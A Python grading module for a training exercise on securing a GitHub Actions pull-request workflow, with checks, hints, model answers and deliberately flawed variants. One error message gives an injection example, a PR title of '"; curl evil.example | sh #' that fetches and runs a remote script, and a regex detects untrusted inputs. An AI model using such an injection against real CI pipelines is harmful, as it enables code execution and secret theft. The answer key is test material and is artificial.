"""Task 04.5: least privilege, pinned actions, secrets by reference, no text of a stranger in a shell."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

from dojo.judge.contract import Check, NotYet, Task, file, right, wrong
from dojo.judge.work import Work
from dojo.tasks.answers import parse_yaml
from dojo.tasks.m04_continuous_integration import gate

SAFE = "repo/.github/workflows/safe.yml"
UNTRUSTED = r"\$\{\{[^}]*github\.(event\.(pull_request\.(title|body|head\.(ref|label))|issue|comment|review|head_commit)|head_ref)[^}]*\}\}"


def _workflow(work: Work) -> dict[str, Any]:
    workflow = parse_yaml(work.file(SAFE), SAFE)
    if not isinstance(workflow, dict) or not gate.jobs(workflow):
        raise NotYet("The file holds no `jobs`.", cause="no-jobs")
    return workflow


def token_reads(work: Work, data: int) -> str:
    workflow = _workflow(work)
    if "pull_request_target" in gate.triggers(workflow):
        raise NotYet("`pull_request_target` runs in the base repository, with its secrets and a writing token, and then checks out the stranger's code. Start on `pull_request`.", got="pull_request_target", expected="pull_request", cause="target")  # fmt: skip
    if "pull_request" not in gate.triggers(workflow):
        raise NotYet("It must still start on a pull request.", got=", ".join(gate.triggers(workflow)) or "nothing", expected="pull_request", cause="trigger")  # fmt: skip
    blocks = [workflow.get("permissions"), *(j.get("permissions") for j in gate.jobs(workflow).values())]
    scopes = [s for b in blocks for s in gate.write_scopes(b)]
    if scopes:
        raise NotYet(f"The token may write: {', '.join(scopes)}. Nothing in these steps writes to the repository.", got=scopes, expected="contents: read", cause="write-token")  # fmt: skip
    if workflow.get("permissions") is None and any(j.get("permissions") is None for j in gate.jobs(workflow).values()):
        raise NotYet(
            "No `permissions` block: the token holds the organisation's default, which may be everything.",
            cause="default-token",
        )
    if workflow.get("permissions") == "read-all":
        raise NotYet("`read-all` also reads packages, deployments and security alerts. Name the one scope that is needed.", got="read-all", expected="contents: read", cause="read-all")  # fmt: skip
    for name, job in gate.jobs(workflow).items():
        own = job.get("permissions", workflow.get("permissions"))
        if isinstance(own, dict) and own.get("contents") != "read":
            raise NotYet(f"The token of job `{name}` may not even read the repository, which its checkout needs: `contents: read`.", got=own, expected={"contents": "read"}, cause="no-read")  # fmt: skip
    return "Started by `pull_request`; the token reads."


def pinned(work: Work, data: int) -> str:
    for _, _, step in gate.steps(_workflow(work)):
        used = str(step.get("uses", ""))
        if used and not used.startswith("./") and not re.fullmatch(r"[\w.-]+/[\w./-]+@[0-9a-f]{40}", used):
            ref = used.partition("@")[2] or "nothing"
            what = "a branch: whatever stands there tomorrow runs with your secrets" if ref in ("main", "master") else "a short id" if re.fullmatch(r"[0-9a-f]{7,39}", ref) else "a tag, and a tag can be moved"  # fmt: skip
            raise NotYet(f"`{used}` is pinned to {what}. A full commit id (40 characters) cannot be moved.", expected="owner/name@<40 characters> # v5", got=used, cause="unpinned")  # fmt: skip
    used = [str(s.get("uses", "")) for _, _, s in gate.steps(_workflow(work))]
    if not any(u.startswith("actions/checkout@") for u in used):
        raise NotYet("The checkout is gone; the steps after it need the repository.", cause="no-checkout")
    return "Every action by its commit."


def secrets_by_reference(work: Work, data: int) -> str:
    workflow = _workflow(work)
    for where, value in _texts(workflow, ""):
        if (
            re.search(r"(token|key|password|secret)\w*$", where, re.I)
            and isinstance(value, str)
            and value
            and "${{" not in value
            and not value.startswith("$")
        ):
            raise NotYet(f"`{where.lstrip('.')}` holds a credential in plain text, and the repository's history keeps it. Store it as a CI secret, refer to it, and change it: it has been seen.", got=value[:4] + "…", expected="${{ secrets.BUCKET_TOKEN }}", cause="plain-secret")  # fmt: skip
    for job, _, step in gate.steps(workflow):
        if re.search(r"\$\{\{[^}]*secrets\.", str(step.get("run", ""))):
            raise NotYet(f"In job `{job}` a secret is written into the command line: every process on the runner can list it. Hand it over in the step's `env`.", got=step["run"], cause="secret-in-command")  # fmt: skip
    wide = [
        n
        for n, b in (
            ("the workflow", workflow.get("env")),
            *((f"job `{n}`", j.get("env")) for n, j in gate.jobs(workflow).items()),
        )
        if "secrets." in str(b)
    ]
    if wide:
        raise NotYet(f"The secret stands in the `env` of {wide[0]}: every step and every action of it can read it, the linter too. Only the upload needs it.", cause="wide-secret")  # fmt: skip
    if not any("secrets.BUCKET_TOKEN" in str(s.get("env", "")) + str(s.get("with", "")) for _, _, s in gate.steps(workflow)):
        raise NotYet(
            "The upload still needs its token: `env: {BUCKET_TOKEN: ${{ secrets.BUCKET_TOKEN }}}` on that step.",
            cause="no-secret",
        )
    return "One secret, by reference, in one step."


def no_text_of_strangers(work: Work, data: int) -> str:
    workflow = _workflow(work)
    for job, _, step in gate.steps(workflow):
        found = re.search(UNTRUSTED, str(step.get("run", "")))
        if found:
            raise NotYet(f"In job `{job}`, `{found[0]}` is pasted into the script before the shell reads it. A title of `\"; curl evil.example | sh #` is then a command. Pass it in `env` and use \"$PR_TITLE\".", got=step["run"], cause="injection")  # fmt: skip
        if str(step.get("uses", "")).startswith("actions/checkout@"):
            options = step.get("with") or {}
            if str(options.get("persist-credentials", "true")).lower() != "false":
                raise NotYet("The checkout leaves the token in .git/config, where every later step finds it: `persist-credentials: false`.", cause="persisted-token")  # fmt: skip
    return "No text of a stranger in a shell, no token left lying about."


def still_works(work: Work, data: int) -> str:
    workflow = _workflow(work)
    scripts = [(str(s.get("run", "")), s.get("env") or {}) for _, _, s in gate.steps(workflow)]
    named = [(run, name) for run, env in scripts for name, value in env.items() if "pull_request.title" in str(value)]
    done = {
        "announcement": any(re.search(rf"\$\{{?{name}\b", run) for run, name in named)
        or any("pull_request.title" in run for run, _ in scripts),
        "check": any(re.search(r"ruff\s+check", run) for run, _ in scripts),
        "upload": any("ci/upload.py" in run for run, _ in scripts),
    }
    for what, there in done.items():
        if not there:
            raise NotYet(
                f"The step that did the {what} does it no longer. Safe because it does nothing is not what was asked.",
                cause="lost-step",
            )
    for _, _, step in gate.steps(workflow):
        if "upload.py" in str(step.get("run", "")) and "BUCKET_TOKEN" not in str(step.get("run", "")) + str(
            step.get("env", "")
        ):
            raise NotYet("The upload gets no token.", cause="no-secret")
    unlimited = [n for n, j in gate.jobs(workflow).items() if "timeout-minutes" not in j]
    if unlimited:
        raise NotYet(
            f"Job `{unlimited[0]}` has no `timeout-minutes`: a hanging step holds the queue for six hours.",
            cause="no-timeout",
        )
    return "And it does what it did."


def _texts(value: Any, where: str) -> Iterator[tuple[str, Any]]:
    if isinstance(value, dict):
        for key, inner in value.items():
            if key not in ("permissions", "run", "uses", "name"):
                yield from _texts(inner, f"{where}.{key}")
    elif isinstance(value, list):
        for inner in value:
            yield from _texts(inner, where)
    else:
        yield where, value


GOOD = """name: release notes
on: pull_request
permissions:
  contents: read
jobs:
  notes:
    runs-on: ubuntu-latest
    timeout-minutes: 5
    steps:
      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
        with:
          persist-credentials: false
      - uses: actions/setup-python@a26af69be951a213d495a4c3e4e4022e16d87065 # v5.6.0
        with: {python-version: "3.11"}
      - name: Announce
        env:
          PR_TITLE: ${{ github.event.pull_request.title }}
        run: echo "New change $PR_TITLE"
      - name: Check
        run: ruff check .
      - name: Upload
        env:
          BUCKET_TOKEN: ${{ secrets.BUCKET_TOKEN }}
        run: python ci/upload.py
"""
TWO = """on: [pull_request]
permissions: {}
jobs:
  check:
    runs-on: ubuntu-latest
    timeout-minutes: 3
    permissions: {contents: read}
    steps:
      - {uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8, with: {persist-credentials: false}}
      - run: echo "New change $TITLE" && ruff check .
        env: {TITLE: "${{ github.event.pull_request.title }}"}
  upload:
    needs: check
    runs-on: ubuntu-latest
    timeout-minutes: 3
    permissions: {contents: read}
    steps:
      - {uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8, with: {persist-credentials: false}}
      - run: python ci/upload.py --token "$BUCKET_TOKEN"
        env: {BUCKET_TOKEN: "${{ secrets.BUCKET_TOKEN }}"}
"""


def _but(*pairs: tuple[str, str]) -> dict[str, str]:
    text = GOOD
    for old, new in pairs:
        text = text.replace(old, new)
    return {SAFE: text}


TASK = Task(
    id="04.5",
    title="What a stranger's pull request may do",
    minutes=15,
    points=3,
    deliver=(file(SAFE),),
    data=lambda seed: seed,
    checks=(
        Check("is started safely, with a token that reads", token_reads),
        Check("pins every action", pinned),
        Check("holds no secret, refers to one", secrets_by_reference),
        Check("lets no text of a stranger into a shell", no_text_of_strangers),
        Check("still does its work", still_works),
    ),
    hints=(
        "Ask of each line: who wrote this text, and what could they write instead? There are six answers in `release.yml` that should worry you.",
        "The trigger, the token, the two `uses`, the plain token in `env`, the title in `echo`, the secret on the command line, the credentials that the checkout leaves behind.",
        "`on: pull_request`, `permissions: {contents: read}`, 40-character commit ids, `env: {PR_TITLE: ${{ github.event.pull_request.title }}}` with `\"$PR_TITLE\"`, the secret in the upload step's `env`, `persist-credentials: false`, `timeout-minutes`.",
    ),
    wrong=(
        wrong("still pull_request_target", _but(("on: pull_request\n", "on: pull_request_target\n")), "target"),
        wrong("no permissions block", _but(("permissions:\n  contents: read\n", "")), "default-token"),
        wrong("read-all", _but(("permissions:\n  contents: read\n", "permissions: read-all\n")), "read-all"),
        wrong("a token that may not even read", _but(("permissions:\n  contents: read\n", "permissions: {}\n")), "no-read"),
        wrong("one scope still writes", _but(("  contents: read\n", "  contents: read\n  pull-requests: write\n")), "write-token"),
        wrong("tags", _but(("@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0", "@v5")), "unpinned"),
        wrong("the token in plain text", _but(("${{ secrets.BUCKET_TOKEN }}", "sf-upload-2f9d1c77aa")), "plain-secret"),
        wrong("the secret for everybody", _but(("jobs:\n", "env:\n  BUCKET_TOKEN: ${{ secrets.BUCKET_TOKEN }}\njobs:\n")), "wide-secret"),
        wrong("the secret on the command line", _but(("python ci/upload.py", "python ci/upload.py --token ${{ secrets.BUCKET_TOKEN }}")), "secret-in-command"),
        wrong("the title in the script", _but(('"New change $PR_TITLE"', '"New change ${{ github.event.pull_request.title }}"')), "injection"),
        wrong("credentials left behind", _but(("        with:\n          persist-credentials: false\n", "")), "persisted-token"),
        wrong("the upload thrown out", _but(("        run: python ci/upload.py\n", "        run: echo later\n")), "lost-step"),
    ),
    right=(
        right("two jobs", {SAFE: TWO}),
        right("the title through a file", _but(('run: echo "New change $PR_TITLE"', "run: printf 'New change %s\\n' \"$PR_TITLE\" >> \"$GITHUB_STEP_SUMMARY\""))),
    ),
    spared={"python-version": "the version of Python is not what is judged", ".steps[1]": "setting up Python is not what is judged", "line 8": "a minute more or less decides nothing here", "5 →": "a minute more or less decides nothing here", "runs-on": "actionlint's business", "3.11": "the version of Python is not what is judged"},
)  # fmt: skip
